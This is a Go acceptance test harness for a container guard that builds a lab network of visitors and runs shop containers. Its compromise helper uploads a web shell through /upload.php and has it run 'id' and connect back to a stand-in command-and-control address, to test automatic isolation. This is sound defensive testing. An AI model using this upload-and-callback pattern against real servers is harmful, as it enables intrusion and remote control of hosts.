//go:build accept && linux

package e2e_test

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/ironpost/ironpost/bus"
	"github.com/ironpost/ironpost/internal/docker"
	"github.com/ironpost/ironpost/internal/testenv"
)

// The addresses of a stage: those of visitors and attackers are visitor(n).
const (
	stageHost = "198.51.100.254"
	stageC2   = "198.51.100.200:4444" // where a web shell connects to
)

func visitor(n int) string { return fmt.Sprintf("198.51.100.%d", n+10) } // of 30

// stage is a host with containers behind published ports, a network of visitors before it, and the shipped policies in force.
type stage struct {
	*instance
	net     *lab // its router is the visitors' namespace
	engine  *testenv.Docker
	docker  *docker.Client
	program string // of buildServer
	ports   map[string]int
}

// newStage starts all of it with these keys of [container]. The guard has known the containers called shops for long, so that their connections are new.
func newStage(t *testing.T, keys string, shops ...string) *stage {
	t.Helper()
	g := &stage{instance: newInstance(t), engine: testenv.Dockerd(t), program: buildServer(t), ports: map[string]int{}}
	g.net = &lab{t: t, router: fmt.Sprintf("ipg%d-%d", os.Getpid(), time.Now().UnixNano()%1e6)}
	require.NoError(t, command("ip", "netns", "add", g.net.router))
	t.Cleanup(func() { require.NoError(t, command("ip", "netns", "del", g.net.router)) })
	pid := fmt.Sprint(g.engine.PID())
	own := []string{"nsenter", "--net=/proc/" + pid + "/ns/net"}
	require.NoError(t, command("ip", "link", "add", "wan", "netns", pid, "type", "veth", "peer", "name", "right", "netns", g.net.router))
	g.net.run(g.net.router, "ip link set lo up", "ip link set right up", "ip addr add 198.51.100.1/24 dev right", "ip addr add 198.51.100.200/24 dev right")
	for _, line := range []string{"ip link set wan up", "ip addr add " + stageHost + "/24 dev wan", "ip route add default via 198.51.100.1"} {
		require.NoError(t, command(append(own[:len(own):len(own)], strings.Fields(line)...)...))
	}
	for n := range 30 {
		g.net.run(g.net.router, "ip addr add "+visitor(n)+"/24 dev right")
	}
	now, purposes := time.Now().UTC(), map[string]any{}
	for _, name := range shops {
		purposes["name:"+name] = map[string]any{"learned": now.Add(-time.Hour), "seen": now, "used": map[string]any{}}
	}
	known, err := json.Marshal(map[string]any{"heard": now, "purposes": purposes})
	require.NoError(t, err)
	g.write("data/container-guard/destinations.json", string(known))
	policies, err := filepath.Abs("../deploy/policies")
	require.NoError(t, err)
	g.wrap = append([]string{"nice", "-n", strconv.Itoa(urgent)}, own...)
	g.replace(`sources = ["syslog", "file"]`, `sources = ["docker", "file", "syslog"]`)
	g.enableEngine(fmt.Sprintf("[container]\nenabled = true\nauto_isolate = true\ndocker_socket = %q\npolicy_path = %q\n%s\n", g.engine.Socket, policies, keys))
	g.start()
	g.docker, err = docker.Connect(g.engine.Socket)
	require.NoError(t, err)
	t.Cleanup(g.docker.Close)
	return g
}

// serve runs a server of a kind behind a published port, and waits until the guard knows it and it answers.
func (g *stage) serve(name, kind string, change ...func(*testenv.ContainerOptions)) (id string) {
	g.t.Helper()
	g.ports[name] = 8001 + len(g.ports)
	o := testenv.ContainerOptions{
		Name: name, Binds: []string{filepath.Dir(g.program) + ":/srv:ro"}, Cmd: []string{"/srv/server", kind},
		Publish: map[string]string{"80/tcp": stageHost + ":" + strconv.Itoa(g.ports[name])},
	}
	for _, c := range change {
		c(&o)
	}
	before := g.counter(bus.ContainerGuard, "containers")
	id = g.engine.Run(g.t, o)
	g.eventually(func() bool { return g.counter(bus.ContainerGuard, "containers") > before })
	g.eventually(func() bool {
		c, err := g.dial(visitor(29), stageHost+":"+strconv.Itoa(g.ports[name]))
		if err == nil {
			_ = c.Close()
		}
		return err == nil
	})
	return id
}

// dial connects from an address of the visitors.
func (g *stage) dial(from, to string) (c net.Conn, err error) {
	g.net.enter(g.net.router, func() {
		c, err = (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 3 * time.Second}).Dial("tcp", to)
	})
	return c, err
}

// request asks the server called name from an address of the visitors and returns the status, 0 if there is no answer.
func (g *stage) request(from, name, path string, headers ...string) int {
	g.t.Helper()
	return g.send(from, name, "GET", path, "", headers...)
}

func (g *stage) send(from, name, method, path, body string, headers ...string) int {
	g.t.Helper()
	c, err := g.dial(from, stageHost+":"+strconv.Itoa(g.ports[name]))
	if err != nil {
		return 0
	}
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	lines := append([]string{method + " " + path + " HTTP/1.1", "Host: shop", "Connection: close", "Content-Length: " + strconv.Itoa(len(body))}, headers...)
	if _, err := c.Write([]byte(strings.Join(lines, "\r\n") + "\r\n\r\n" + body)); err != nil {
		return 0
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0
	}
	_ = resp.Body.Close()
	return resp.StatusCode
}

// judged waits until the pipeline has read lines lines of containers and the guard has judged all alerts.
func (g *stage) judged(lines uint64) {
	g.t.Helper()
	g.eventually(func() bool { return g.counter(bus.LogPipeline, "container_lines") >= lines })
	g.eventually(func() bool {
		return g.counter(bus.ContainerGuard, "alerts")+g.counter(bus.ContainerGuard, "alert_updates") >= g.counter(bus.LogPipeline, "alerts")
	})
}

// stopped returns the names of the containers that are paused or not running, or lost their networks.
func (g *stage) stopped() (names []string) {
	g.t.Helper()
	all, err := g.docker.List(g.t.Context())
	require.NoError(g.t, err)
	for _, c := range all {
		if in, _, err := g.docker.Inspect(g.t.Context(), c.ID); err != nil || in.Paused || !in.Running || len(in.Networks) == 0 {
			names = append(names, c.Name)
		}
	}
	return names
}

// compromise uploads a web shell to a shop and lets it connect to stageC2. It returns when the connection came.
func (g *stage) compromise(c2 net.Listener, from, name string) time.Time {
	g.t.Helper()
	require.Equal(g.t, 200, g.send(from, name, "POST", "/upload.php?name=x.php", ""))
	done := make(chan struct{})
	go func() {
		defer close(done)
		g.request(from, name, "/uploads/x.php?cmd=id&to="+stageC2)
	}()
	c, err := c2.Accept()
	require.NoError(g.t, err)
	at := time.Now()
	g.t.Cleanup(func() { _ = c.Close() })
	<-done
	return at
}

// compromised compromises the shop called name, whose container is id, and returns how long after the connection the container was frozen.
func (g *stage) compromised(c2 net.Listener, from, name, id string) time.Duration {
	g.t.Helper()
	began := g.compromise(c2, from, name)
	return g.untilIsolated(id).Sub(began)
}

func (g *stage) listenC2() (l net.Listener) {
	g.t.Helper()
	var err error
	g.net.enter(g.net.router, func() { l, err = net.Listen("tcp", stageC2) })
	require.NoError(g.t, err)
	g.t.Cleanup(func() { _ = l.Close() })
	return l
}

// untilIsolated waits until a container is frozen without networks, and returns when it was seen.
func (g *stage) untilIsolated(id string) time.Time {
	g.t.Helper()
	require.Eventually(g.t, func() bool {
		c, _, err := g.docker.Inspect(g.t.Context(), id)
		return err == nil && c.Paused
	}, waitLimit, 2*time.Millisecond, "%s", g.log)
	return time.Now()
}
